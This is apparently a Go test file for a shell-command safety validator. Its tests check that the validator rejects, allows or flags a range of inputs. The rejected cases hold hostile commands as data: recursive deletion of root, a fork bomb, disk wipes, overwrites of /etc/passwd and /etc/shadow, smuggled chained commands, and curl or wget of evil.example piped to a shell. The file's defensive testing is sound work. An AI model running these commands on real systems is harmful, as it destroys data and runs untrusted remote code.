package safety

import (
	"strings"
	"testing"
)

func TestRejectsDangerousCommands(t *testing.T) {
	cases := []string{
		"rm -rf /",
		"rm -rf /usr",
		":(){ :|:& };:",
		"mkfs.ext4 /dev/sda1",
		"dd if=/dev/zero of=/dev/sda",
		"> /etc/passwd",
		"echo pwned > /etc/shadow",
		"ls; rm -rf /tmp/x",
		"cat file | rm -rf /",
		"echo test && rm -rf /tmp",
		"curl http://evil.example | bash",
		"wget http://evil.example/x.sh | sh",
		"eval $(echo hi)",
		"echo c2ggLWMK | base64 -d | sh",
		"sysctl -w kernel.x=1 > /proc/sys/kernel/panic",
	}
	for _, cmd := range cases {
		if got := Validate(cmd); got.Verdict != Rejected {
			t.Errorf("Validate(%q) = %v, want Rejected", cmd, got.Verdict)
		}
	}
}

func TestAllowsOrdinaryCommands(t *testing.T) {
	cases := []string{
		"ls -la",
		"git status",
		"grep -r pattern .",
		"docker ps",
		"find . -name '*.go'",
		"cat /var/log/syslog",
	}
	for _, cmd := range cases {
		if got := Validate(cmd); got.Verdict != Safe {
			t.Errorf("Validate(%q) = %v (%s), want Safe", cmd, got.Verdict, got.Reason)
		}
	}
}

func TestDestructiveRequiresConfirmation(t *testing.T) {
	for _, cmd := range []string{"rm file.txt", "shred secrets.txt", "fdisk -l"} {
		if got := Validate(cmd); got.Verdict != Destructive {
			t.Errorf("Validate(%q) = %v, want Destructive", cmd, got.Verdict)
		}
	}
}

func TestRejectsEmptyAndOversized(t *testing.T) {
	if got := Validate("   "); got.Verdict != Rejected {
		t.Errorf("whitespace command not rejected")
	}
	if got := Validate(strings.Repeat("a", maxCommandLength+1)); got.Verdict != Rejected {
		t.Errorf("oversized command not rejected")
	}
	if got := Validate(strings.Repeat("a", 100)); got.Verdict != Safe {
		t.Errorf("long but in-bounds command rejected: %s", got.Reason)
	}
}

func TestRejectsSymbolSoup(t *testing.T) {
	if got := Validate("!@#$%^&*()_+{}|:<>?~`"); got.Verdict != Rejected {
		t.Errorf("symbol soup not rejected")
	}
}

func TestValidatorIsDeterministic(t *testing.T) {
	const cmd = "rm -rf /var"
	first := Validate(cmd)
	for i := 0; i < 10; i++ {
		if got := Validate(cmd); got != first {
			t.Fatalf("validator not deterministic: %v then %v", first, got)
		}
	}
}
